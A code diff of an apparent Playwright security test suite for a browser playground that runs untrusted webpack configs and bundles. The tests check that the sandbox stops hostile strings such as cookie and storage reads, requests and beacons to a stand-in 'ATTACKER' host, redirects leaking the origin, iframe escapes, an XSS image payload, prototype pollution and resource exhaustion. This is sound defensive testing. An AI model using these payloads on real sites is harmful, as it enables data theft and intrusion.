@@ -2,6 +2,7 @@
 import type { Page } from 'playwright-core';
 import { playground } from '../../config/playground';
 import { writeProjectHash } from '../../ui/playground/state/project-link';
+import { limit } from '../../tools/check/slowness';
 import { startLocalServer, type LocalServer } from '../local-server';
 import type { Visit } from './support/start-site';
 import { startWorkerSite, untilControlled } from './support/worker-site';
@@ -18,10 +19,6 @@ beforeAll(async () => {
   expect(hits.splice(0)).toEqual(['/works']);
 });
 afterAll(() => attacker.close());
-const withAttacker = (code: string): string =>
-  code
-    .replaceAll('https://ATTACKER', attacker.url)
-    .replaceAll('wss://ATTACKER', attacker.url.replace('http', 'ws'));
 
 /** Statements that throw where they are stopped, by what they try. */
 type Attempts = Readonly<Record<string, string>>;
@@ -39,14 +36,17 @@ const attempt = (attempts: Attempts): string =>
     .map(([name, code]) => `try { ${code}; reached.push(${JSON.stringify(name)}); } catch {}`)
     .join('\n');
 
-const link = async (build: string, bundle: string): Promise<string> => {
+async function link(build: string, bundle = ''): Promise<string> {
+  const withAttacker = (code: string): string =>
+    code
+      .replaceAll('https://ATTACKER', attacker.url)
+      .replaceAll('wss://ATTACKER', attacker.url.replace('http', 'ws'));
   const files = [
     { path: 'webpack.config.cjs', text: withAttacker(build) },
     { path: 'src/index.js', text: withAttacker(bundle) },
   ];
-  const hash = await writeProjectHash({ files, open: 'src/index.js', mode: null });
-  return `/playground/${hash}`;
-};
+  return `/playground/${await writeProjectHash({ files, open: 'src/index.js', mode: null })}`;
+}
 
 const hostileLink = ({ build = {}, bundle = {} }: Attack): Promise<string> =>
   link(
@@ -64,14 +64,23 @@ module.exports = async () => {
 })();`,
   );
 
+const SLOW = { timeout: limit(30_000) };
+const PLAIN = 'module.exports = { mode: "none" };';
 const consoleOf = (page: Page) => page.getByRole('log', { name: 'Console' });
-const status = (page: Page, text: string | RegExp) => page.getByRole('status').filter({ hasText: text });
+const untilStatus = (page: Page, text: string | RegExp) =>
+  page.getByRole('status').filter({ hasText: text }).waitFor(SLOW);
 
-/** Opens a link, and presses Run. */
+/** Opens a link, presses Run and shows what the bundle prints. */
 async function run({ page, open }: Pick<Visit, 'page' | 'open'>, url: string): Promise<void> {
   await open(url);
   await page.getByText('somebody else’s code').waitFor();
   await page.getByRole('button', { name: 'Run', exact: true }).click();
+}
+
+async function runToResult(visit: Pick<Visit, 'page' | 'open'>, url: string, text: string | RegExp) {
+  await run(visit, url);
+  await untilStatus(visit.page, text);
+  await visit.page.getByRole('tab', { name: 'Result' }).click();
 }
 
 /** The page has not moved, and builds what the visitor types. */
@@ -80,103 +89,87 @@ async function expectUsable({ page, context }: Pick<Visit, 'page' | 'context'>):
   expect(context.pages()).toHaveLength(1);
   await page.getByRole('combobox', { name: 'Example' }).selectOption('tree-shaking');
   await page.getByRole('button', { name: 'Run', exact: true }).click();
-  await status(page, /Built in \d+ ms\./).waitFor();
+  await untilStatus(page, /Built in \d+ ms\./);
   await page.getByRole('tab', { name: 'Files' }).last().click();
   await page.getByRole('button', { name: 'dist/main.js' }).waitFor();
 }
 
-async function expectNothingReached(
-  visit: Pick<Visit, 'page' | 'context' | 'open'>,
-  attack: Attack,
-): Promise<void> {
-  const { page } = visit;
-  await run(visit, await hostileLink(attack));
-  await status(page, /Built in \d+ ms/).waitFor({ timeout: 30_000 });
-  await page.getByRole('tab', { name: 'Result' }).click();
-  const report = consoleOf(page).getByText('reached by the build: ');
-  await report.waitFor();
+async function expectNothingReached(visit: Visit, attack: Attack): Promise<void> {
+  await runToResult(visit, await hostileLink(attack), /Built in \d+ ms/);
+  const report = consoleOf(visit.page).getByText('reached by the build: ');
+  await report.waitFor(SLOW);
   expect(await report.textContent()).toBe('reached by the build: "", by the bundle: ""');
   expect(hits.splice(0)).toEqual([]);
   await expectUsable(visit);
 }
 
 const { test } = startWorkerSite();
-const EXPECTED = { mayThrow: true, timeout: 60_000 } as const;
+const EXPECTED = { mayThrow: true, timeout: 120_000 } as const;
 
-test('reads no storage', EXPECTED, async (visit) => {
-  await visit.open('/');
-  await visit.page.evaluate(() => {
-    localStorage.setItem('secret', '1');
-    sessionStorage.setItem('secret', '1');
-  });
-  const databases =
-    "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })";
-  const shared = {
-    databases,
-    caches: "await caches.open('x')",
-    files: 'await navigator.storage.getDirectory()',
-  };
-  await expectNothingReached(visit, {
-    build: { ...shared, local: 'localStorage.getItem("secret").length' },
-    bundle: {
-      ...shared,
+test(
+  'reads no storage and no cookies, reaches no worker of the site and no other document',
+  EXPECTED,
+  async (visit) => {
+    const { page, host } = visit;
+    await visit.open('/playground/');
+    await page.evaluate(() => {
+      localStorage.setItem('secret', '1');
+      sessionStorage.setItem('secret', '1');
+      document.cookie = 'secret=1; path=/';
+    });
+    await untilControlled(page);
+    const register = 'await navigator.serviceWorker.register("/sw.js")';
+    const shared = {
+      databases:
+        "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })",
+      caches: "await caches.open('x')",
+      files: 'await navigator.storage.getDirectory()',
       local: 'localStorage.getItem("secret").length',
-      session: 'sessionStorage.getItem("secret").length',
-      written: 'localStorage.setItem("playground", "[]")',
-    },
-  });
-  expect(await visit.page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
-});
-
-test('reads and sets no cookies', EXPECTED, async (visit) => {
-  await visit.open('/');
-  await visit.page.evaluate(() => void (document.cookie = 'secret=1; path=/'));
-  await expectNothingReached(visit, {
-    build: { document: 'document.cookie', store: 'await cookieStore.getAll()' },
-    bundle: {
-      read: 'document.cookie.length',
-      write: 'document.cookie = "hostile=1; path=/"',
-      store: 'await cookieStore.set("hostile", "1")',
-    },
-  });
-  expect(await visit.page.evaluate(() => document.cookie)).not.toContain('hostile');
-});
-
-test('reaches no other document', EXPECTED, async (visit) => {
-  await expectNothingReached(visit, {
-    build: { parent: 'parent.document', opener: 'opener.document' },
-    bundle: {
+      register,
       parent: 'parent.document.body',
-      top: 'top.document.body',
-      storage: 'parent.localStorage.length',
-      element: 'frameElement.ownerDocument',
-      sibling:
-        'const all = Array.from({ length: parent.length }, (_, index) => parent[index]); all.find((frame) => frame !== self).document.body',
-      own: 'const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((done) => f.onload = done); f.contentDocument.body',
-    },
-  });
-});
+    };
+    await expectNothingReached(visit, {
+      build: {
+        ...shared,
+        cookies: 'document.cookie',
+        cookieStore: 'await cookieStore.getAll()',
+        opener: 'opener.document',
+      },
+      bundle: {
+        ...shared,
+        session: 'sessionStorage.getItem("secret").length',
+        written: 'localStorage.setItem("playground", "[]")',
+        cookies: 'document.cookie.length',
+        cookie: 'document.cookie = "hostile=1; path=/"',
+        cookieStore: 'await cookieStore.set("hostile", "1")',
+        workers: 'await navigator.serviceWorker.getRegistrations()',
+        message: 'navigator.serviceWorker.controller.postMessage({ type: "SKIP_WAITING" })',
+        top: 'top.document.body',
+        storage: 'parent.localStorage.length',
+        element: 'frameElement.ownerDocument',
+        sibling:
+          'const all = Array.from({ length: parent.length }, (_, index) => parent[index]); all.find((frame) => frame !== self).document.body',
+        own: 'const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((done) => f.onload = done); f.contentDocument.body',
+      },
+    });
+    expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
+    expect(await page.evaluate(() => document.cookie)).not.toContain('hostile');
+    const scopes = await page.evaluate(async () =>
+      (await navigator.serviceWorker.getRegistrations()).map(({ scope, active }) => [
+        scope,
+        active?.scriptURL,
+      ]),
+    );
+    expect(scopes).toEqual([[`${host.url}/`, `${host.url}/sw.js`]]);
+  },
+);
 
-test('opens no windows', EXPECTED, async (visit) => {
+test('opens no windows and makes no requests', EXPECTED, async (visit) => {
   const click = (target: string, href: string): string =>
     `const a = document.createElement('a'); a.href = '${href}'; a.target = '${target}'; document.body.append(a); a.click()`;
   const submit = `const f = document.createElement('form'); f.action = '/vote/'; f.target = '_blank'; document.body.append(f); f.submit()`;
-  // A click says nothing of what has become of it: what counts is that no window has opened.
-  await expectNothingReached(visit, {
-    bundle: {
-      own: 'open("/vote/").document',
-      foreign: 'open("https://ATTACKER/").closed',
-      link: `${click('_blank', '/vote/')}; throw 1`,
-      foreignLink: `${click('_blank', 'https://ATTACKER/')}; throw 1`,
-      topLink: `${click('_top', '/vote/')}; throw 1`,
-      parentLink: `${click('_parent', 'https://ATTACKER/')}; throw 1`,
-      form: `${submit}; throw 1`,
-      dialog: 'if (confirm("?") || prompt("?") !== null) 1; else throw 1',
-    },
-  });
-});
-
-test('makes no requests', EXPECTED, async (visit) => {
+  const load = (tag: string, name: string, url: string): string =>
+    `await new Promise((done, fail) => { const e = document.createElement('${tag}'); e.onload = done; e.onerror = fail; e.${name} = '${url}'; document.body.append(e); })`;
   const both: Attempts = {
     fetch: 'const r = await fetch("/search/index.json"); if (!r.ok) throw 1',
     foreign: 'await fetch("https://ATTACKER/", { mode: "no-cors" })',
@@ -189,8 +182,6 @@ test('makes no requests', EXPECTED, async (visit) => {
     worker:
       'await new Promise((done, fail) => { const w = new Worker("https://ATTACKER/a.js"); w.onmessage = done; w.onerror = fail; })',
   };
-  const load = (tag: string, name: string, url: string): string =>
-    `await new Promise((done, fail) => { const e = document.createElement('${tag}'); e.onload = done; e.onerror = fail; e.${name} = '${url}'; document.body.append(e); })`;
   await expectNothingReached(visit, {
     build: {
       ...both,
@@ -199,7 +190,7 @@ test('makes no requests', EXPECTED, async (visit) => {
     },
     bundle: {
       ...both,
-      beacon: 'if (!navigator.sendBeacon("https://ATTACKER/")) throw 1; throw 1',
+      beacon: 'navigator.sendBeacon("https://ATTACKER/"); throw 1',
       image: load('img', 'src', 'https://ATTACKER/a.png'),
       siteImage: load('img', 'src', '/icon.svg'),
       script: load('script', 'src', 'https://ATTACKER/a.js'),
@@ -209,6 +200,15 @@ test('makes no requests', EXPECTED, async (visit) => {
       media: `await new Audio('https://ATTACKER/a.mp3').play()`,
       connection: `new RTCPeerConnection()`,
       prefixedConnection: `new webkitRTCPeerConnection()`,
+      // A click says nothing of what has become of it: what counts is that no window has opened.
+      own: 'open("/vote/").document',
+      foreignWindow: 'open("https://ATTACKER/").closed',
+      link: `${click('_blank', '/vote/')}; throw 1`,
+      foreignLink: `${click('_blank', 'https://ATTACKER/')}; throw 1`,
+      topLink: `${click('_top', '/vote/')}; throw 1`,
+      parentLink: `${click('_parent', 'https://ATTACKER/')}; throw 1`,
+      form: `${submit}; throw 1`,
+      dialog: 'if (confirm("?") || prompt("?") !== null) 1; else throw 1',
     },
   });
 });
@@ -218,27 +218,33 @@ test('makes no connections from a document within its frame', EXPECTED, async (v
   const within = (source: string): string => `const f = document.createElement('iframe'); ${source};
     const loaded = new Promise((done) => f.onload = done); document.body.append(f); await loaded`;
   const connect = `const [port] = firstMessage.ports; port.postMessage(typeof RTCPeerConnection)`;
+  // A script that the policy stops is reported by an event; one that it does not stop sends a message.
+  const stopped = `const told = new Promise((done, fail) => { onmessage = done; addEventListener('securitypolicyviolation', fail); })`;
   // The only script that the inherited policy allows runs whatever is sent to it. Stopped is what gets no constructor;
   // without an answer the attempt would prove nothing.
   const ownScript = `${within("f.srcdoc = '<script>' + document.scripts[0].textContent + '</scr' + 'ipt>'")};
     const { port1, port2 } = new MessageChannel();
-    const answer = new Promise((done) => { port1.onmessage = ({ data }) => done(data); setTimeout(done, 5000); });
+    const answer = new Promise((done) => { port1.onmessage = ({ data }) => done(data); });
     f.contentWindow.postMessage({ script: new Blob([${JSON.stringify(connect)}]) }, '*', [port2]);
     if (await answer === 'undefined') throw 1`;
   await expectNothingReached(visit, {
     bundle: {
       empty: `${within('')}; new f.contentWindow.RTCPeerConnection()`,
       text: `${within("f.srcdoc = '<p>a</p>'")}; new f.contentWindow.RTCPeerConnection()`,
-      script: `${within("f.srcdoc = '<script>parent.postMessage(1, \"*\")</scr' + 'ipt>'")};
-        await new Promise((done, fail) => { addEventListener('message', done); setTimeout(fail, 500); })`,
-      scriptUrl: `const f = document.createElement('iframe'); f.src = 'javascript:parent.postMessage(1, "*")'; document.body.append(f);
-        await new Promise((done, fail) => { addEventListener('message', done); setTimeout(fail, 500); })`,
+      // Its message would be sent before its document has loaded.
+      script: `let ran = false; onmessage = () => { ran = true; };
+        ${within("f.srcdoc = '<script>parent.postMessage(1, \"*\")</scr' + 'ipt>'")};
+        await new Promise((done) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = done; port2.postMessage(1); });
+        if (!ran) throw 1`,
+      scriptUrl: `${stopped}; const f = document.createElement('iframe');
+        f.src = 'javascript:parent.postMessage(1, "*")'; document.body.append(f); await told`,
       ownScript,
     },
   });
 });
 
 test('leads neither the page nor its own frame elsewhere', EXPECTED, async (visit) => {
+  const { page } = visit;
   await expectNothingReached(visit, {
     bundle: {
       top: 'top.location = "/vote/"',
@@ -248,19 +254,16 @@ test('leads neither the page nor its own frame elsewhere', EXPECTED, async (visi
       close: 'top.close(); throw 1',
     },
   });
-  const { page, context } = visit;
   const leave = 'console.log("leaves"); location.href = "https://ATTACKER/?" + origin;';
-  await run(visit, await link('module.exports = { mode: "none" };', leave));
-  await status(page, /Built in \d+ ms/).waitFor();
-  await page.getByRole('tab', { name: 'Result' }).click();
+  await runToResult(visit, await link(PLAIN, leave), /Built in \d+ ms/);
   await consoleOf(page).getByText('leaves').waitFor();
   await page.getByText('The bundle did not answer for 5 seconds').waitFor();
   expect(hits.splice(0)).toEqual([]);
-  await expectUsable({ page, context });
+  await expectUsable(visit);
 });
 
 test('posts no message that the page believes', EXPECTED, async (visit) => {
-  const { page, context } = visit;
+  const { page } = visit;
   const markup = '<img src=x onerror="window.isHacked = 1">';
   const outcome = {
     type: 'built',
@@ -286,85 +289,51 @@ for (let id = 0; id < 9; id += 1) {
 }
 ${forged.join('\n')}
 module.exports = () => ({ mode: 'none' });`;
-  await run(visit, await link(build, ''));
+  await run(visit, await link(build));
   // Its own build may end with what it says: the page shows it as text.
-  await page.getByText(markup).first().waitFor();
+  await page.getByText(markup).first().waitFor(SLOW);
   expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
-  await expectUsable({ page, context });
+  await expectUsable(visit);
 
   const messages = ['SKIP_WAITING', 'outcome', 'pong'].map((type) => ({ type, id: 1, outcome }));
   const post = `for (const message of ${JSON.stringify(messages)}) { top.postMessage(message, '*'); parent.postMessage(message, '*', [new MessageChannel().port1]); }
 console.log(${JSON.stringify(markup)});`;
-  await run(visit, await link('module.exports = { mode: "none" };', post));
-  await status(page, /Built in \d+ ms/).waitFor();
-  await page.getByRole('tab', { name: 'Result' }).click();
+  await runToResult(visit, await link(PLAIN, post), /Built in \d+ ms/);
   await consoleOf(page).getByText(markup).waitFor();
   expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
-  await expectUsable({ page, context });
+  await expectUsable(visit);
 });
 
 test('changes no prototype of the page', EXPECTED, async (visit) => {
-  const { page, context } = visit;
-  const trick = (target: string): string =>
-    `${target}.polluted = 1; Array.prototype.map = null; Promise.prototype.then = null`;
-  await run(
-    visit,
-    await link(`${trick('Object.prototype')}\nmodule.exports = () => ({ mode: 'none' });`, ''),
-  );
-  await status(page, /Not built|Built in/).waitFor({ timeout: 30_000 });
-  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
-  await expectUsable({ page, context });
+  const trick = `Object.prototype.polluted = 1; Array.prototype.map = null; Promise.prototype.then = null`;
   const data = `module.exports = { mode: 'none', ['__proto__']: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } };`;
   const emit = `module.exports = { mode: 'none', plugins: [{ apply(compiler) { compiler.hooks.thisCompilation.tap('a', (c) => {
     c.hooks.processAssets.tap('a', () => c.emitAsset('__proto__', new (require('webpack').sources.RawSource)('polluted'))); }); } }] };`;
-  for (const config of [data, emit]) {
+  for (const config of [`${trick}\nmodule.exports = () => ({ mode: 'none' });`, data, emit]) {
     await run(visit, await link(config, `Object.prototype.polluted = 1; console.log('ran');`));
-    await status(page, /Not built|Built in/).waitFor();
-    expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
+    await untilStatus(visit.page, /Not built|Built in/);
+    expect(await visit.page.evaluate(() => 'polluted' in {})).toBe(false);
   }
-  await expectUsable({ page, context });
+  await expectUsable(visit);
 });
 
-test('a build that never ends is ended', EXPECTED, async (visit) => {
-  const { page, context } = visit;
-  await page.clock.install();
-  await run(visit, await link('for (;;) {}\nmodule.exports = {};', ''));
-  await status(page, '0 %').waitFor();
-  await page.clock.fastForward(playground.buildLimit + 1000);
-  await page.getByText('The build took longer than 20 seconds and was ended').waitFor();
-  expect(await page.locator('iframe').count()).toBe(0);
-  await expectUsable({ page, context });
-});
-
-test('a build and a bundle that take a gigabyte end with an error, or go on', EXPECTED, async (visit) => {
-  const { page, context } = visit;
+test('takes neither endless time nor all memory', EXPECTED, async (visit) => {
+  const { page } = visit;
   const take = `const all = []; for (let i = 0; i < 1024; i += 1) all.push(new Uint8Array(2 ** 20).fill(1));`;
   const config = `${take}\nmodule.exports = () => ({ mode: 'none' });`;
-  await run(visit, await link(config, `${take}\nconsole.log('took ' + all.length);`));
-  await status(page, /Not built|Built in/).waitFor({ timeout: 40_000 });
-  await page.getByRole('tab', { name: 'Result' }).click();
+  const url = await link(config, `${take}\nconsole.log('took ' + all.length);`);
+  await runToResult(visit, url, /Not built|Built in/);
   await page
     .getByText(/took 1024|did not answer|RangeError|could not be fetched/)
     .first()
     .waitFor();
-  await expectUsable({ page, context });
-});
+  await expectUsable(visit);
 
-test('registers no service worker, and reaches not that of the site', EXPECTED, async (visit) => {
-  const { page, host } = visit;
-  await visit.open('/playground/');
-  await untilControlled(page);
-  const register = 'await navigator.serviceWorker.register("/sw.js")';
-  await expectNothingReached(visit, {
-    build: { register },
-    bundle: {
-      register,
-      list: 'await navigator.serviceWorker.getRegistrations()',
-      message: 'navigator.serviceWorker.controller.postMessage({ type: "SKIP_WAITING" })',
-    },
-  });
-  const scopes = await page.evaluate(async () =>
-    (await navigator.serviceWorker.getRegistrations()).map(({ scope, active }) => [scope, active?.scriptURL]),
-  );
-  expect(scopes).toEqual([[`${host.url}/`, `${host.url}/sw.js`]]);
+  await page.clock.install();
+  await run(visit, await link('for (;;) {}\nmodule.exports = {};'));
+  await untilStatus(page, '0 %');
+  await page.clock.fastForward(playground.buildLimit + 1000);
+  await page.getByText('The build took longer than 20 seconds and was ended').waitFor();
+  expect(await page.locator('iframe').count()).toBe(0);
+  await expectUsable(visit);
 });
